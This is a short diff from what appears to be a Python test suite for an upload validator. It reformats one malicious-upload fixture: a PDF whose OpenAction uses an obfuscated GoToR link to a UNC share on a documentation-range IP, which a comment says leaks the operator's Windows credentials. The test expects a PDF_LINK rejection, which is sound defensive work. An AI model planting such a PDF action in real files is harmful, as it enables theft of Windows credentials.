@@ -258,7 +258,9 @@ BAD_UPLOADS: list[tuple[str, Callable[[], bytes], RejectCode] | ParameterSet] = 
     ),
     (
         "gotor_unc_share.pdf",  # opening it sends the operator's Windows credentials
-        lambda: pdf_with(b"/OpenAction << /S /GoT#6FR /F (\\\\198.51.100.7\\x\\a.pdf) /D [0 /Fit] >>"),
+        lambda: pdf_with(
+            b"/OpenAction << /S /GoT#6FR /F (\\\\198.51.100.7\\x\\a.pdf) /D [0 /Fit] >>"
+        ),
         RejectCode.PDF_LINK,
     ),
     (
